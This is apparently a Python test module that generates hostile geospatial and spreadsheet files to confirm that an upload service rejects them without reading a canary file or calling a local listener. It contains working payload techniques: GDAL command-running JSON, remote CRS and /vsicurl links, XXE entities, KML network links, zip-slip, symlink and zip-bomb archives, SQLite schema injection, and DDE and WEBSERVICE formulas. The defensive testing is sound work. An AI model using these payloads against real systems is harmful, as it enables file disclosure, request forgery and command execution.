"""Files that try to read the server or to reach out, in every variant that we could think of.

Each is made with the path of a canary file outside and the address of a listener of this machine;
none of them may be read as areas or rows, and nobody may open the canary or call the listener.
"""

from __future__ import annotations

import io
import json
import sqlite3
import stat
import tempfile
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import geopandas as gpd
import pyarrow
import pyarrow.parquet
import shapely

from tests.hostile.files import packed, with_parts
from tests.ledger.sheets import HEADER, ROWS, text_table, workbook

Case = tuple[str, bytes, str]
SQUARE = shapely.box(127.0, 29.0, 127.05, 29.1)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'


@dataclass(frozen=True)
class Outside:
    """What must not be touched: a file with a word of its own, and an address that listens."""

    file: Path
    address: str

    @property
    def sources(self) -> tuple[str, ...]:
        """Ways to name it that GDAL knows."""
        host = self.address.removeprefix("http://")
        return (
            str(self.file),
            f"/vsicurl/{self.address}/x.geojson",
            f"/vsicurl_streaming/{self.address}/x.geojson",
            f"/vsizip//vsicurl/{self.address}/x.zip",
            f"/vsigzip/{self.file}",
            f"/vsisubfile/0_100,{self.file}",
            f"CSV:{self.file}",
            self.address,
            f"WFS:{self.address}",
            f"/vsiwebhdfs/http://{host}/x",
        )


def boundary_files(outside: Outside) -> Iterator[Case]:
    """(name, content, words of the refusal); a name may end in anything."""
    yield from _commands(outside)
    yield from _links(outside)
    yield from _other_languages(outside)
    yield from _archives(outside)
    yield from _databases(outside)
    yield from _parquets(outside)


def _json(content: object) -> bytes:
    return json.dumps(content).encode()


def _square(**more: object) -> dict[str, object]:
    shape = json.loads(shapely.to_geojson(SQUARE))
    properties = {"code": "990101001001003", "name": "网格"}
    return {"type": "Feature", "properties": properties, "geometry": {**shape, **more}}


def _commands(outside: Outside) -> Iterator[Case]:
    """JSON that GDAL would run, with the words of a boundary file somewhere inside."""
    inside = {"x": {"type": "FeatureCollection", "features": [_square()]}}
    said = "顶层的 type 是“gdal_streamed_alg”"
    for number, source in enumerate(outside.sources):
        line = f"gdal vector pipeline ! read {source} ! write"
        run = {"type": "gdal_streamed_alg", "command_line": line}
        yield f"gdalg-{number}.geojson", _json(run | inside), said
        yield f"gdalg-behind-{number}.json", _json(inside | run), said
    line = f"gdal vector convert {outside.file} /vsistdout/"
    run = {"type": "gdal_streamed_alg", "command_line": line}
    for name, content in {
        "gdalg.gdalg.json": _json(run),
        "gdalg-escaped.geojson": _json(run | inside).replace(b'"type"', b'"\\u0074ype"', 1),
        "gdalg-mark.geojson": b"\xef\xbb\xbf" + _json(run | inside),
        "gdalg-gbk.geojson": json.dumps({"名": "乗"} | run, ensure_ascii=False).encode("gbk"),
        "gdalg-text.geojson": _json({"a": '"type":"FeatureCollection"'} | run),
        "gdalg.parquet": _json(run | inside),
        "gdalg.gpkg": _json(run | inside),
        "gdalg.zip": _json(run | inside),
    }.items():
        yield name, content, said
    yield "gdalg-blanks.geojson", b" \r\n\t" * 40_000 + _json(inside | run), "认不出"
    for other in ("gdal_virtual_something", "OGRVRTDataSource", "STACTA", "Collection", "Catalog"):
        content = _json({"type": other, "href": outside.address} | inside)
        yield f"type-{other}.geojson", content, f"“{other}”"
    yield "no-type.geojson", _json({"features": [_square()]}), "顶层没有 type"
    yield "esri.json", _json({"rings": [], "spatialReference": {"wkid": 4326}}), "顶层没有 type"
    yield "type-list.geojson", _json([{"type": "FeatureCollection"}]), "不是 GeoJSON"
    yield "seq.geojsonl", b"\x1e" + _json(_square()) + b"\n", "认不出"


def _links(outside: Outside) -> Iterator[Case]:
    """Coordinate systems that GDAL would fetch."""
    address = f"{outside.address}/crs"
    ways: dict[str, dict[str, object]] = {
        "link": {"type": "link", "properties": {"href": address, "type": "proj4"}},
        "url": {"type": "url", "properties": {"url": address}},
        "capitals": {"type": "URL", "properties": {"url": address}},
        "file": {"type": "link", "properties": {"href": f"file://{outside.file}"}},
        "curl": {"type": "link", "properties": {"href": f"/vsicurl/{address}"}},
    }
    for name, crs in ways.items():
        top = {"type": "FeatureCollection", "crs": crs, "features": [_square()]}
        deep = {"type": "FeatureCollection", "features": [_square(crs=crs)]}
        said = "坐标系(crs)不是名称"
        yield f"crs-{name}.geojson", _json(top), said
        yield f"crs-{name}-deep.geojson", _json(deep), said
        spelt = _json(deep).replace(b'"crs"', b'"\\u0063rs"')
        yield f"crs-{name}-spelt.geojson", spelt, said
        topology = {"type": "Topology", "crs": crs, "objects": {}, "arcs": []}
        yield f"crs-{name}.topojson", _json(topology), said


def _other_languages(outside: Outside) -> Iterator[Case]:
    """Formats that name files and addresses."""
    file, address = outside.file, outside.address
    vrt = (
        f'<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>{file}</SrcDataSource>'
        "</OGRVRTLayer></OGRVRTDataSource>"
    )
    link = (
        '<kml xmlns="http://www.opengis.net/kml/2.2"><NetworkLink><Link>'
        f"<href>{address}/x.kml</href></Link></NetworkLink></kml>"
    )
    entity = f'<!DOCTYPE kml [<!ENTITY a SYSTEM "file://{file}">]><kml><name>&a;</name></kml>'
    yield "x.vrt", vrt.encode(), "XML"
    for name in ("x.geojson", "x.gpkg", "x.zip", "x.parquet"):
        yield f"vrt-{name}", vrt.encode(), "XML"
    yield "link.kml", link.encode(), "KML"
    yield "entity.kml", entity.encode(), "DOCTYPE"
    yield "link.kmz", packed({"doc.kml": link.encode()}), "已损坏"
    for name, part in {
        "schema": f'<Schema name="a" id="a"/><ExtendedData><SchemaData schemaUrl="{address}/a"/>',
        "href": f"<Style><IconStyle><Icon><href>{address}/a.png</href></Icon></IconStyle></Style>",
        "style": f"<styleUrl>{address}/a.kml#x</styleUrl>",
        "file": f"<NetworkLink><Link><href>file://{file}</href></Link></NetworkLink>",
        "update": f"<NetworkLinkControl><Update><targetHref>{address}/a</targetHref></Update>",
    }.items():
        placed = f"<Placemark><name>x</name>{part}<Point><coordinates>1,1</coordinates></Point>"
        whole = f'<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{placed}</Placemark>'
        yield f"kml-{name}.kml", f"{whole}</Document></kml>".encode(), ""
    yield "tab.zip", packed(_mapinfo(b'\nOpen Table "%s"\n' % str(file).encode())), "指向别的表"
    yield "tab-view.zip", packed(_mapinfo(b"\nCreate View x As Select * From y\n")), "指向别的表"
    linked = _mapinfo(b"")
    linked["x.tab"] = linked["x.tab"].replace(b"NATIVE", b"LINKED")
    yield "tab-linked.zip", packed(linked), "指向别的表"
    page = {"geometryType": "esriGeometryPolygon", "exceededTransferLimit": True, "features": []}
    yield "esri-page.json", _json(page), "只是一部分"
    yield "esri-next.json", _json(page | {"exceededTransferLimit": False, "next": address}), ""
    gml = f'<wfs:FeatureCollection xmlns:wfs="x" schemaLocation="{address}/x.xsd"/>'
    yield "x.gml", (XML + gml).encode(), "XML"
    wfs = f"<OGRWFSDataSource><URL>{address}</URL></OGRWFSDataSource>"
    yield "x.xml", wfs.encode(), "XML"
    for name, text in {
        "wfs": f"WFS:{address}",
        "path": str(file),
        "curl": f"/vsicurl/{address}",
        "csv": f"CSV:{file}",
        "csvt": "code,WKT\n1,POINT(1 1)\n",
    }.items():
        yield f"{name}.geojson", text.encode(), "认不出"
    tab = f'!table\n!version 300\nOpen Table "{file}"\n'
    yield "tab.geojson", tab.encode(), "单个 .tab"
    yield "x.shp", b"\x00\x00\x27\x0a" + bytes(96), "单个 .shp"
    for name, magic, said in (
        ("x.rar", b"Rar!\x1a\x07", "RAR"),
        ("x.7z", b"7z\xbc\xaf\x27\x1c", "7z"),
        ("x.gz", b"\x1f\x8b\x08", "gzip"),
        ("x.tar", b"x.geojson" + bytes(91) + b"0000644", "认不出"),
        ("x.pdf", b"%PDF-1.7", "PDF"),
        ("x.fgb", b"fgb\x03fgb\x00", "认不出"),
        ("x.pmtiles", b"PMTiles\x03", "认不出"),
    ):
        yield name, magic + bytes(300), said


def _shapefile() -> dict[str, bytes]:
    frame = gpd.GeoDataFrame(
        {"code": ["990101001001003"], "name": ["x"]}, geometry=[SQUARE], crs=4326
    )
    with tempfile.TemporaryDirectory() as folder:
        frame.to_file(Path(folder) / "x.shp")
        return {path.name: path.read_bytes() for path in Path(folder).iterdir()}


def _mapinfo(more: bytes) -> dict[str, bytes]:
    """A MapInfo table with something else in its head."""
    frame = gpd.GeoDataFrame({"code": ["1"], "name": ["x"]}, geometry=[SQUARE], crs=4326)
    with tempfile.TemporaryDirectory() as folder:
        frame.to_file(Path(folder) / "x.tab", driver="MapInfo File")
        parts = {path.name: path.read_bytes() for path in Path(folder).iterdir()}
    return parts | {"x.tab": parts["x.tab"] + more}


def _archives(outside: Outside) -> Iterator[Case]:
    parts = _shapefile()
    inner = packed(parts)
    vrt = f"<OGRVRTDataSource><SrcDataSource>{outside.file}</SrcDataSource></OGRVRTDataSource>"
    yield "vrt-in.zip", packed({"x.vrt": vrt.encode()}), "没有 .shp"
    yield "zip-in.zip", packed({"x.zip": inner}), "没有 .shp"
    yield "zip-in-zip-in.zip", packed({"y.zip": packed({"x.zip": inner})}), "没有 .shp"
    yield (
        "gdalg-as-shp.zip",
        packed(parts | {"x.shp": _json({"type": "gdal_streamed_alg"})}),
        "已损坏",
    )
    yield "vrt-as-shp.zip", packed(parts | {"x.shp": vrt.encode()}), "已损坏"
    yield "two.zip", packed(parts | {"y.shp": parts["x.shp"]}), "2 个图层"
    yield "twice.zip", packed(parts | {"x.DBF": parts["x.dbf"]}), "两个"
    yield "many.zip", packed(parts | {f"n{at}.txt": b"" for at in range(2_100)}), "超过 2000 个"
    slip = {f"../../{name}": data for name, data in parts.items() if name != "x.dbf"}
    yield "slip.zip", packed(slip), "缺少 .dbf"
    for name, target in (("link.zip", str(outside.file)), ("link-up.zip", "../../x")):
        stream = io.BytesIO(packed({k: v for k, v in parts.items() if k != "x.dbf"}))
        with zipfile.ZipFile(stream, "a") as archive:
            link = zipfile.ZipInfo("x.dbf")
            link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
            archive.writestr(link, target)
        yield name, stream.getvalue(), "指向别处的链接"
    yield "bomb.zip", packed(parts | {"x.dbf": bytes(300 << 20)}), "解开后过大"
    yield "cut.zip", inner[: len(inner) // 2], "已损坏"
    yield "book.zip", packed({"xl/workbook.xml": b"<x/>"}), "Excel"


def _databases(outside: Outside) -> Iterator[Case]:
    """GeoPackages with what runs when somebody reads, and other SQLite files."""
    frame = gpd.GeoDataFrame({"code": ["1"], "name": ["x"]}, geometry=[SQUARE], crs=4326)
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "x.gpkg"
        frame.to_file(path, layer="areas")
        good = path.read_bytes()
    ogr = f"CREATE VIRTUAL TABLE o USING VirtualOGR(''{outside.file}'')"
    into = (
        "INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) VALUES "
        f"('table', 'o', 'o', 0, '{ogr}')"
    )
    call = f"ogr_geocode(''{outside.address}'')"
    for name, statements, said in (
        ("view", ["CREATE VIEW v AS SELECT * FROM areas"], "视图“v”"),
        ("fts", ["CREATE VIRTUAL TABLE f USING fts5(a)"], "虚拟表“f”"),
        ("ogr", ["PRAGMA writable_schema=ON", into], "虚拟表“o”"),
        (
            "trigger",
            ["CREATE TRIGGER t AFTER INSERT ON areas BEGIN DELETE FROM areas; END"],
            "触发器“t”",
        ),
        ("computed", ["CREATE TABLE c (a, b AS (hex(a)))"], "计算列“c.b”"),
        (
            "geocode",
            [
                "PRAGMA writable_schema=ON",
                f"UPDATE sqlite_master SET sql = 'CREATE VIEW areas AS SELECT {call} AS code' "
                "WHERE name = 'areas'",
            ],
            "",
        ),
    ):
        yield f"{name}.gpkg", _after(good, statements), said
    yield "plain.gpkg", _after(b"", ["CREATE TABLE a (b)"]), "不是 GeoPackage"
    yield "noise.gpkg", b"SQLite format 3\x00" + bytes(4000), "已损坏"
    yield "cut.gpkg", good[: len(good) // 2], ""
    yield "gpkg-in.zip", packed({"x.gpkg": good}), "没有 .shp"


def _after(content: bytes, statements: list[str]) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "x.db"
        path.write_bytes(content)
        connection = sqlite3.connect(path)
        for statement in statements:
            connection.execute(statement)
        connection.commit()
        connection.close()
        return path.read_bytes()


def _parquets(outside: Outside) -> Iterator[Case]:
    table = pyarrow.table({"code": ["1"], "geometry": [SQUARE.wkb]})
    for name, crs in (("address", outside.address), ("file", str(outside.file))):
        about = {
            "version": "1.0.0",
            "primary_column": "geometry",
            "columns": {"geometry": {"encoding": "WKB", "geometry_types": [], "crs": crs}},
        }
        stream = io.BytesIO()
        pyarrow.parquet.write_table(
            table.replace_schema_metadata({"geo": json.dumps(about)}), stream
        )
        yield f"crs-{name}.parquet", stream.getvalue(), ""
    stream = io.BytesIO()
    pyarrow.parquet.write_table(table, stream)
    yield "plain.parquet", stream.getvalue(), "没有图形列"
    yield "noise.parquet", b"PAR1" + bytes(400) + b"PAR1", "已损坏"


def tables(outside: Outside) -> Iterator[Case]:
    """Workbooks and text tables; empty words: read, but with nothing from outside in it."""
    for name, change in _links_of_workbooks(outside):
        yield name, _book(change), ""
    entity = f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{outside.file}">]>'.encode()
    remote = f'<!DOCTYPE x [<!ENTITY % a SYSTEM "{outside.address}/x.dtd"> %a;]>'.encode()
    for part in ("xl/workbook.xml", "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"):
        for kind, doctype in (("file", entity), ("address", remote)):
            name = f"entity-{kind}-{Path(part).stem}.xlsx"
            yield name, _book({part: (b"?>", b"?>" + doctype)}), "已损坏"
    letters = b"A" * 5_000_000
    string = "<t>甲院</t>".encode()
    yield "long.xlsx", _book({"xl/sharedStrings.xml": (string, b"<t>" + letters + b"</t>")}), "个字"
    yield "path.csv", f"{outside.file}\n".encode(), "表头"
    yield "vrt.csv", f"<OGRVRTDataSource>{outside.file}</OGRVRTDataSource>".encode(), ""
    with tempfile.TemporaryDirectory() as folder:
        formula = f'=WEBSERVICE("{outside.address}")', f"=cmd|'/c type {outside.file}'!A0"
        row = ("J-9", *formula, 29.05, 1)
        yield "formulas.csv", text_table(Path(folder) / "x.csv", [HEADER, row]).read_bytes(), "经度"


def _links_of_workbooks(outside: Outside) -> Iterator[tuple[str, dict[str, object]]]:
    """Links that a reader could follow: other workbooks, pictures, connections, DDE."""
    cell = b"<v>10</v>"
    sheet, relations = "xl/worksheets/sheet1.xml", "xl/_rels/workbook.xml.rels"
    other = (
        f'{XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{OFFICE}/externalLinkPath" Target="{{}}" '
        'TargetMode="External"/></Relationships>'
    )
    for kind, target in (
        ("file", f"file://{outside.file}"),
        ("address", f"{outside.address}/x.xlsx"),
    ):
        yield (
            f"linked-{kind}.xlsx",
            {
                sheet: (cell, b"<f>[1]Sheet1!A1</f><v>10</v>"),
                "xl/externalLinks/externalLink1.xml": f"{XML}<externalLink/>".encode(),
                "xl/externalLinks/_rels/externalLink1.xml.rels": other.format(target).encode(),
            },
        )
        kept = (
            f'<Relationship Id="rId99" Type="{OFFICE}/image" Target="{target}" '
            'TargetMode="External"/>'
        )
        yield (
            f"picture-{kind}.xlsx",
            {relations: (b"</Relationships>", kept.encode() + b"</Relationships>")},
        )
        connection = f'{XML}<connections><webPr url="{target}"/></connections>'
        yield f"connection-{kind}.xlsx", {"xl/connections.xml": connection.encode()}
    dde = f"<f>cmd|'/c type {outside.file}'!A0</f><v>10</v>".encode()
    yield "dde.xlsx", {sheet: (cell, dde)}
    web = f'<f>WEBSERVICE("{outside.address}")</f><v>10</v>'.encode()
    yield "webservice.xlsx", {sheet: (cell, web)}


def _book(changes: dict[str, object]) -> bytes:
    """A good workbook with parts added (bytes) or changed (old, new)."""

    def change(parts: dict[str, bytes]) -> None:
        for part, new in changes.items():
            if isinstance(new, tuple):
                old, put = new
                parts[part] = parts[part].replace(old, put, 1)
            else:
                assert isinstance(new, bytes)
                parts[part] = new

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "x.xlsx"
        workbook(path, [HEADER, *ROWS])
        with_parts(change)(path)
        return path.read_bytes()
